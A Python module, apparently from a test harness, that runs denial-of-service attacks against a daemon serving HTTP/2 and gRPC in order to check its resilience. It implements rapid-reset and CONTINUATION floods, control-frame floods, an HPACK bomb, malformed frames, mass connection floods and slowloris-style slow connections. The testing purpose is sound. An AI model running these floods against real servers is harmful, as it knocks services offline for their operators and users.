"""Floods of HTTP/2 frames and of connections, by thousands: none of them may cost more than its sender."""

import struct
import time

import messages as m
from arena import Skip, attack
from daemon import http_get
from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
                   WINDOW_UPDATE, Closed, Late, dial, frame, grpc_frame, hpack, hpack_int)

FRAMES = 20000


def flood(arena, pieces, connections=4):
    """Sends `pieces(connection)` in chunks on each of some connections, until done or closed."""
    closed = 0
    for _ in range(connections):
        connection = arena.connect()
        try:
            connection.settle()
            for piece in pieces(connection):
                connection.send(piece)
                if arena.overrun.is_set():
                    return
                connection.pump(0)
        except (Closed, Late):
            closed += 1
    arena.note(f"{closed} of {connections} connections closed by the daemon")
    arena.hold(0.5, turn=arena.drain)


def chunks(one, count, each=200):
    return (one * each for _ in range(count // each))


@attack("H1", "rapid reset: 20,000 calls begun and reset at once")
def rapid_reset(arena):
    def pieces(connection):
        block = connection.headers_for(m.REQUEST)
        for _ in range(FRAMES // 4 // 50):
            piece = b""
            for _ in range(50):
                number, connection.next = connection.next, connection.next + 2
                piece += frame(HEADERS, END_HEADERS, number, block)
                piece += frame(RST_STREAM, 0, number, struct.pack(">I", 8))
            yield piece

    flood(arena, pieces)


@attack("H2", "CONTINUATION without end")
def continuation(arena):
    def pieces(connection):
        yield frame(HEADERS, 0, 1, connection.headers_for(m.REQUEST))
        yield from chunks(frame(CONTINUATION, 0, 1, hpack([("x-a", "b" * 200)])), FRAMES // 4)

    flood(arena, pieces)


@attack("H3", "floods of SETTINGS, PING, WINDOW_UPDATE and PRIORITY, unread")
def control_frames(arena):
    kinds = (
        frame(SETTINGS, 0, 0),
        frame(PING, 0, 0, bytes(8)),
        frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
        frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 16)),
        frame(DATA, 0, 1, b""),
    )
    for one in kinds:
        connection = arena.connect()
        try:
            connection.settle()
            if one[3] == DATA:
                connection.open(m.REQUEST)
            for piece in chunks(one, FRAMES):
                connection.send(piece)
        except (Closed, Late):
            arena.note(f"a flood of frames of kind {one[3]} ended its connection")
        arena.drain()


@attack("H4", "an HPACK bomb: one header of 4,000 bytes, named 16,000 times a call")
def hpack_bomb(arena):
    def pieces(connection):
        value = b"v" * 3900
        first = connection.headers_for(m.REQUEST) + b"\x40" + hpack_int(1, 7) + b"x" + hpack_int(len(value), 7) + value
        for n in range(20):
            number, connection.next = connection.next, connection.next + 2
            block = first if n == 0 else connection.headers_for(m.REQUEST)
            block += b"\xbe" * (16000 - len(block))
            yield frame(HEADERS, END_HEADERS, number, block)

    flood(arena, pieces)


@attack("H5", "bytes that are no HTTP/2")
def no_http2(arena):
    for data in (b"GET / HTTP/1.1\r\n\r\n" * 50, bytes(100_000), b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(100_000),
                 b"\x16\x03\x01\x02\x00\x01" + bytes(500)):
        for _ in range(20):
            sock = dial(arena.target)
            try:
                sock.sendall(data)
            except OSError:
                pass
            sock.close()
            arena.result.connections += 1
            arena.result.sent += len(data)
    # Frames that break rules of HTTP/2, each on a connection of its own.
    for data in (
        frame(DATA, END_STREAM, 1, b"x"), frame(HEADERS, END_HEADERS, 2, b"\x82"),
        frame(HEADERS, END_HEADERS, 1, b"\xff" * 40),
        frame(SETTINGS, 0, 0, b"\x00"), frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 2**32 - 1)),
        frame(WINDOW_UPDATE, 0, 0, bytes(4)), frame(PING, 0, 0, b"x"), frame(255, 255, 2**31 - 1, b"x" * 100),
        frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1)) * 2, b"\xff\xff\xff\x00\x00\x00\x00\x00\x01",
    ):
        connection = arena.connect()
        try:
            connection.send(data)
            connection.pump(0.05)
        except (Closed, Late):
            pass


@attack("N9", "1,500 silent connections, and 500 opened and closed at once", long=True)
def connections(arena):
    for _ in range(1500):
        try:
            arena.keep(dial(arena.target, 5))
        except Closed as error:
            arena.note(f"after {arena.result.connections}: {error}")
            break
    for _ in range(500):
        try:
            dial(arena.target, 5).close()
            arena.result.connections += 1
        except Closed:
            break
    arena.hold(2)


@attack("N9a", "200 calls at once on each of 40 connections, by one application", long=True)
def calls(arena):
    opened = []
    for n in range(40):
        connection = arena.connect()
        connection.settle()
        for k in range(min(200, connection.most_streams or 200)):
            body = m.request(f"many-{n}-{k}", "application_1600000000000_777", [m.group("map", 20)], deadline_ms=5000)
            number = connection.open(m.REQUEST)
            connection.write(number, grpc_frame(body), end=True)
            opened.append((connection, number))
    arena.hold(4, turn=arena.drain)
    counts = {}
    for connection, number in opened:
        status = connection.streams[number].status()
        counts[status] = counts.get(status, 0) + 1
    arena.note(f"statuses: {counts}")


def slow_http(arena, count, again):
    """`count` connections that say half a request, and a byte now and then; with `again` who is closed comes back."""
    if not arena.http:
        raise Skip("needs --http")
    slow, back = [], 0

    def begin(n):
        sock = dial(arena.http, 2)
        sock.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n" if n % 2 else b"G")
        sock.settimeout(0.5)
        arena.keep(sock)
        return sock

    def drip():
        nonlocal back
        for n, sock in enumerate(slow):
            try:
                sock.sendall(b"X")
            except OSError:
                if again and not arena.overrun.is_set():
                    sock.close()
                    try:
                        slow[n] = begin(n)
                        back += 1
                    except (OSError, Closed):
                        pass

    for n in range(count):
        try:
            slow.append(begin(n))
        except (OSError, Closed):
            break
    arena.hold(8, every=0.5, turn=drip)
    started = time.monotonic()
    code, _ = http_get(arena.http, "/healthz", 10)
    arena.note(f"{len(slow)} slow, {back} came back, /healthz: {code} after {time.monotonic() - started:.1f} s")


@attack("D9", "40 slow connections to the page of health")
def slow_health(arena):
    slow_http(arena, 40, again=False)


@attack("D9a", "400 slow connections to the page of health, which come back", long=True)
def many_slow_health(arena):
    slow_http(arena, 400, again=True)
